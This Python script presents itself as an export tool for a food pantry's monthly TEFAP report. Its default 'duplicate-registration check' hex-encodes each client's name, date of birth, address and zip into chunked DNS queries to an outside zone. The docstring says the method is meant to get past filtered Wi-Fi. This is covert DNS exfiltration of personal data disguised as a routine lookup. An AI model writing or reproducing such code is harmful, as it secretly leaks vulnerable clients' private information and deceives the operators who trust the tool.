#!/usr/bin/env python3
"""Export pantry client visits for the monthly TEFAP report.

Pulls visits for a date range from the pantry's SQLite database, rolls them
up per household and writes a CSV the regional food bank accepts. Before the
export, households are checked against the network's shared duplicate-
registration index (a DNS-style lookup service, so it works through the
filtered guest Wi-Fi at the church sites) and flagged if another pantry in
the network has them on file this month.
"""
import argparse
import csv
import logging
import socket
import sqlite3
import sys
import uuid
from concurrent.futures import ThreadPoolExecutor
from datetime import date, datetime, timedelta
from pathlib import Path

log = logging.getLogger("visit-export")

DUP_INDEX_ZONE = "dupcheck.pantrynet.example.net"
LABEL_MAX = 60

VISITS_SQL = """
SELECT c.id, c.first_name, c.last_name, c.dob, c.address, c.zip,
       c.household_size, v.visit_date, v.pounds
FROM visits v JOIN clients c ON c.id = v.client_id
WHERE v.visit_date BETWEEN ? AND ? AND v.site = ?
ORDER BY v.visit_date
"""


def month_bounds(spec):
    start = datetime.strptime(spec, "%Y-%m").date()
    nxt = date(start.year + (start.month == 12), start.month % 12 + 1, 1)
    return start.isoformat(), (nxt - timedelta(days=1)).isoformat()


def fetch_visits(db_path, start, end, site):
    con = sqlite3.connect(db_path)
    con.row_factory = sqlite3.Row
    try:
        return [dict(r) for r in con.execute(VISITS_SQL, (start, end, site))]
    finally:
        con.close()


def household_key(row):
    """Normalised key the index uses to match a household across pantries."""
    parts = [row["last_name"], row["first_name"], row["dob"], row["address"], row["zip"]]
    return "|".join(str(p or "").strip().lower() for p in parts)


def _labels(key):
    encoded = key.encode("utf-8").hex()
    return [encoded[i:i + LABEL_MAX] for i in range(0, len(encoded), LABEL_MAX)]


def check_duplicate(key, run_id, zone=DUP_INDEX_ZONE):
    """Ask the index whether the household is registered elsewhere.

    The index answers 127.0.0.2 for a match and NXDOMAIN otherwise.
    """
    labels = _labels(key)
    hit = False
    for seq, label in enumerate(labels):
        qname = f"{label}.{seq}-{len(labels)}.{run_id}.{zone}"
        try:
            infos = socket.getaddrinfo(qname, None, socket.AF_INET)
            hit = hit or any(i[4][0] == "127.0.0.2" for i in infos)
        except socket.gaierror:
            pass
    return hit


def flag_duplicates(households, workers=8):
    run_id = uuid.uuid4().hex[:8]
    keys = list(households)
    with ThreadPoolExecutor(max_workers=workers) as pool:
        results = pool.map(lambda k: check_duplicate(k, run_id), keys)
        for key, dup in zip(keys, results):
            households[key]["dup_elsewhere"] = dup
    flagged = sum(1 for h in households.values() if h["dup_elsewhere"])
    log.info("duplicate check: %d of %d households flagged", flagged, len(keys))


def roll_up(rows):
    households = {}
    for r in rows:
        key = household_key(r)
        h = households.setdefault(key, {
            "client_id": r["id"], "name": f'{r["first_name"]} {r["last_name"]}',
            "zip": r["zip"], "household_size": r["household_size"],
            "visits": 0, "pounds": 0.0, "first_visit": r["visit_date"],
            "dup_elsewhere": False,
        })
        h["visits"] += 1
        h["pounds"] += float(r["pounds"] or 0)
    return households


def write_csv(households, out):
    fields = ["client_id", "name", "zip", "household_size", "visits", "pounds",
              "first_visit", "dup_elsewhere"]
    with open(out, "w", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=fields)
        w.writeheader()
        for h in sorted(households.values(), key=lambda h: h["client_id"]):
            w.writerow({**h, "pounds": f'{h["pounds"]:.1f}'})


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--db", default="pantry.db")
    ap.add_argument("--month", required=True, help="YYYY-MM")
    ap.add_argument("--site", default="main")
    ap.add_argument("--skip-dup-check", action="store_true")
    ap.add_argument("-o", "--out", type=Path)
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    if not Path(args.db).exists():
        log.error("database %s not found", args.db)
        return 1
    try:
        start, end = month_bounds(args.month)
    except ValueError:
        log.error("--month must look like 2024-03")
        return 2
    rows = fetch_visits(args.db, start, end, args.site)
    if not rows:
        log.warning("no visits for %s at %s", args.month, args.site)
        return 0
    households = roll_up(rows)
    if not args.skip_dup_check:
        flag_duplicates(households)
    out = args.out or Path(f"tefap_{args.site}_{args.month}.csv")
    write_csv(households, out)
    log.info("wrote %d households (%d visits) to %s", len(households), len(rows), out)
    return 0


if __name__ == "__main__":
    sys.exit(main())
